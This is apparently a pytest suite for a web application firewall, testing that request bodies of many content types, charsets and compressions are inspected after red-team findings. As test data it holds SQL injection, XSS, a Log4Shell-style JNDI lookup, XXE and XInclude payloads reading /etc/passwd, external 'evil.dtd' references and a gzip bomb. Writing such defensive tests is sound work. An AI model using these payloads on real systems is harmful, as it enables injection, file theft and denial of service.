"""Red-team findings on request bodies (notes/redteam F01-F04), with both rule packs: every shape
that passed uninspected is now inspected (403) or refused (400 waf_body_unparsable)."""

import json

import pytest

from filters.waf import bodies
from gateway.chain import Deny

from .conftest import crs_dir
from .test_stage import ctx, filt

PAYLOAD = {
    "id": "1' UNION SELECT password FROM users--",
    "x": "${jndi:ldap://e/a}",
    "y": "<script>alert(1)</script>",
}


@pytest.fixture(params=["builtin", pytest.param("crs", marks=pytest.mark.e2e)])
def pack(request):
    if request.param == "crs":
        return {"rules": "crs", "crs_path": crs_dir()}
    return {}


async def _check(waf, content_type, body, **extra):
    hdrs = {
        "Host": "x",
        "User-Agent": "Mozilla/5.0",
        "Accept": "*/*",
        "Content-Length": str(len(body)),
        **extra,
    }
    if content_type is not None:
        hdrs["Content-Type"] = content_type
    c = ctx("/api/x", "POST", hdrs, body)
    d = await filt(**waf).check(c)
    return (d.problem.reason if type(d) is Deny else "allowed"), c


# F01: JSON-family types are parsed as JSON; other and missing types are inspected as raw text.
@pytest.mark.parametrize(
    "ct",
    [
        "application/vnd.api+json",
        "application/problem+json",
        "application/merge-patch+json",
        "application/ld+json",
        "text/json",
        "application/x-ndjson",
        "text/plain",
        "application/octet-stream",
        None,
        "application/vnd.api+json; charset=utf-8",
        "TEXT/JSON",
    ],
)
async def test_f01_json_family_and_unknown_types_inspected(pack, ct):
    reason, c = await _check(pack, ct, json.dumps(PAYLOAD).encode())
    assert reason == "waf_blocked"
    # builtin: the content itself matched. CRS (early blocking) may refuse the type by policy
    # first (920420 type not allowed, 920340 body without a type); test_f01_crs_inspects_content
    # shows that the content is inspected too.
    content = {9105100, 9105110, 9106100, 9106110, 9104110} if not pack else {942100, 941100, 920420, 920340}
    assert content & set(c.waf.matched_rule_ids), c.waf.matched_rule_ids


@pytest.mark.parametrize(
    "ct",
    [
        "application/vnd.api+json",
        "text/json",
        "application/x-ndjson",
        "text/plain",
        "application/octet-stream",
        None,
    ],
)
def test_f01_crs_inspects_content(crs_engine, ct):
    from filters.waf.engine import Transaction

    body = json.dumps(PAYLOAD).encode()
    h = [("Host", "x"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"), ("Content-Length", str(len(body)))]
    if ct:
        h.append(("Content-Type", ct))
    e = crs_engine(1)
    out = Transaction(
        e.ruleset, method="POST", uri="/x", protocol="HTTP/1.1", headers=h, body=body
    ).process_request()
    assert out.interrupted
    # every rule runs in detection mode (enforce may stop once the score denies: early.py)
    out = Transaction(
        e.ruleset, method="POST", uri="/x", protocol="HTTP/1.1", headers=h, body=body, detection_only=True
    ).process_request()
    assert out.interrupted and {942100, 941100} <= set(out.matched), out.matched


@pytest.mark.parametrize("key,payload", [("id", PAYLOAD["id"]), ("y", PAYLOAD["y"])])
async def test_f01_each_json_family_value_is_an_argument_in_builtin(key, payload):
    body = json.dumps({key: payload}).encode()
    for ct in ("application/vnd.api+json", "text/json", "application/x-ndjson"):
        reason, c = await _check({}, ct, body)
        assert reason == "waf_blocked", ct


async def test_f01_ndjson_line_by_line():
    body = b'{"a": "harmless"}\n\n{"b": "' + PAYLOAD["id"].encode() + b'"}\n'
    assert (await _check({}, "application/x-ndjson", body))[0] == "waf_blocked"
    res = bodies.json_body(body, lines=True)
    assert res.args == [("json.array_0.a", b"harmless"), ("json.array_1.b", PAYLOAD["id"].encode())]
    # a line that is not JSON is a body that does not parse; a benign ndjson body passes
    assert (await _check({}, "application/x-ndjson", b'{"a": 1}\n{"b": \n'))[0] == "waf_body_unparsable"
    assert (await _check({}, "application/x-ndjson", b'{"a": 1}\n{"b": "Bod\\u00f8"}\n'))[0] == "allowed"


@pytest.mark.parametrize(
    "ct,body",
    [
        ("application/vnd.api+json", b'{"data": {"type": "sak", "attributes": {"tittel": "Byggesak 12"}}}'),
        ("text/plain", b"Hei, dette er en vanlig melding om byggesaken."),
        ("application/octet-stream", bytes(range(256)) * 4),
        (None, b"hello"),
    ],
)
async def test_f01_benign_bodies_of_those_types_pass(ct, body):
    # builtin; CRS refuses types outside tx.allowed_request_content_type by policy (920420)
    assert (await _check({}, ct, body))[0] == "allowed"


# F02: every occurrence of a duplicated JSON key is inspected.
@pytest.mark.parametrize(
    "body",
    [
        b'{"id": "1\' UNION SELECT password FROM users--", "id": "1"}',
        b'{"id": "1", "id": "1\' UNION SELECT password FROM users--"}',
        b'{"q": {"x": "<script>alert(1)</script>"}, "q": 1}',
    ],
)
async def test_f02_duplicate_json_keys_all_inspected(pack, body):
    assert (await _check(pack, "application/json", body))[0] == "waf_blocked"


def test_f02_duplicate_keys_become_one_argument_each():
    res = bodies.json_body(b'{"a": "1", "b": {"c": 2}, "a": "3", "b": []}')
    assert res.args == [("json.a", b"1"), ("json.b.c", b"2"), ("json.a", b"3")]


# F03: external DTDs, undeclared entities, XInclude are refused.
@pytest.mark.parametrize(
    "doc",
    [
        b"<!DOCTYPE a [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><a>&xxe;</a>",
        b"<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/evil.dtd'><a>&xxe;</a>",
        b"<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/evil.dtd'><a>x</a>",
        b"<!DOCTYPE a PUBLIC '-//x//y' 'http://127.0.0.1:9/evil.dtd'><a>x</a>",
        b"<!DOCTYPE a [<!ELEMENT a ANY> %pe;]><a>&undeclared;</a>",
        b"<a>&undeclared;</a>",
        b"<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></a>",
        b"<a><b xmlns:x=\"http://www.w3.org/2001/XInclude\"><x:include href='http://127.0.0.1:9/'/></b></a>",
    ],
)
async def test_f03_external_dtd_undeclared_entity_xinclude_refused(pack, doc):
    assert (await _check(pack, "application/xml", doc))[0] == "waf_body_unparsable"


async def test_f03_plain_xml_with_internal_dtd_still_passes(pack):
    doc = b'<?xml version="1.0"?><!DOCTYPE a [<!ELEMENT a ANY>]><a x="1">byggesak &amp; &#65;</a>'
    assert (await _check(pack, "application/xml", doc))[0] == "allowed"


# F04: form bodies in a charset that is not ASCII-compatible are decoded and inspected.
@pytest.mark.parametrize(
    "charset",
    ["ibm037", "ibm500", "cp1140", "cp875", "cp1026", "utf-16", "utf-32", "utf-7", "IBM037", '"ibm037"'],
)
async def test_f04_form_in_ebcdic_and_other_charsets_inspected(pack, charset):
    body = "id=1' UNION SELECT password FROM users--".encode(charset.strip('"'))
    reason, _ = await _check(pack, f"application/x-www-form-urlencoded; charset={charset}", body)
    assert reason == "waf_blocked"


@pytest.mark.parametrize("charset", ["ibm037", "cp1140", "utf-16"])
async def test_f04_benign_form_in_ebcdic_passes(charset):
    # builtin; CRS refuses charsets outside tx.allowed_request_content_type_charset (920480)
    body = "navn=Kari Nordmann&by=Oslo".encode(charset)
    assert (await _check({}, f"application/x-www-form-urlencoded; charset={charset}", body))[0] == "allowed"


async def test_f04_unknown_charset_or_undecodable_form_refused():
    assert (await _check({}, "application/x-www-form-urlencoded; charset=ibm01047", b"a=1"))[
        0
    ] == "waf_body_unparsable"
    assert (await _check({}, "application/x-www-form-urlencoded; charset=utf-16le", b"a=1"))[
        0
    ] == "waf_body_unparsable"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32-be"])
async def test_f01_utf16_and_utf32_text_of_an_unknown_type_is_decoded(encoding):
    # Python's json.loads and Jackson detect UTF-16/32 JSON by themselves
    body = json.dumps(PAYLOAD).encode(encoding)
    assert (await _check({}, "application/octet-stream", body))[0] == "waf_blocked"
    assert bodies.raw_text(body, None) == json.dumps(PAYLOAD).encode()


def test_f01_binary_body_is_not_read_as_text():
    # binary apart from its NULs: read up to the first byte that is not UTF-8 (here, none)
    assert bodies.raw_text(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", None) == b""
    assert bodies.raw_text(b"plain text", None) == b"plain text"


# F07: request Content-Encoding: decoded for inspection (gzip, deflate) or refused with a problem.
def _gz(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data)


@pytest.mark.parametrize("ct", ["application/json", "text/plain", None])
async def test_f07_gzip_and_deflate_bodies_inspected_decoded(ct):
    import zlib

    body = json.dumps(PAYLOAD).encode()
    for enc, data in [
        ("gzip", _gz(body)),
        ("x-gzip", _gz(body)),
        ("deflate", zlib.compress(body)),
        ("deflate", zlib.compress(body)[2:-4]),
        ("gzip, gzip", _gz(_gz(body))),
        ("identity", body),
    ]:
        reason, _ = await _check({}, ct, data, **{"Content-Encoding": enc})
        assert reason == "waf_blocked", (enc, ct)
    benign = json.dumps({"navn": "Kari"}).encode()
    assert (await _check({}, ct, _gz(benign), **{"Content-Encoding": "gzip"}))[0] == "allowed"


@pytest.mark.parametrize("enc", ["zstd", "br", "compress", "x-nope", "gzip, zstd", "zstd, gzip"])
async def test_f07_encoding_the_waf_cannot_decode_is_415(enc):
    reason, c = await _check({}, "application/json", b"{}", **{"Content-Encoding": enc})
    assert reason == "unsupported_content_encoding"
    assert c.audit["waf"]["reason"] == "unsupported_content_encoding"


async def test_f07_broken_or_oversized_compressed_body():
    assert (await _check({}, "application/json", b"not gzip", **{"Content-Encoding": "gzip"}))[
        0
    ] == "waf_body_unparsable"
    assert (await _check({}, "application/json", _gz(b"{}")[:-6], **{"Content-Encoding": "gzip"}))[
        0
    ] == "waf_body_unparsable"
    assert (await _check({}, "application/json", _gz(b"{}") + b"xx", **{"Content-Encoding": "gzip"}))[
        0
    ] == "waf_body_unparsable"
    bomb = _gz(b'{"a": "' + b"x" * 10_000_000 + b'"}')  # ~10 KB that inflate to 10 MB
    assert (await _check({}, "application/json", bomb, **{"Content-Encoding": "gzip"}))[0] == "waf_body_limit"
    # an empty body with a coding is nothing to decode
    assert (await _check({}, None, b"", **{"Content-Encoding": "zstd"}))[0] == "allowed"


@pytest.mark.parametrize("ct", ["application/vnd.example+xml", "application/atom+xml", "application/rss+xml"])
async def test_f03_xml_family_types_parsed_as_xml(pack, ct):
    assert (await _check(pack, ct, b"<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/x.dtd'><a>x</a>"))[
        0
    ] == "waf_body_unparsable"
    if not pack:
        assert (await _check(pack, ct, b"<a>1' UNION SELECT password FROM users--</a>"))[0] == "waf_blocked"
        assert (await _check(pack, ct, b"<a>byggesak</a>"))[0] == "allowed"
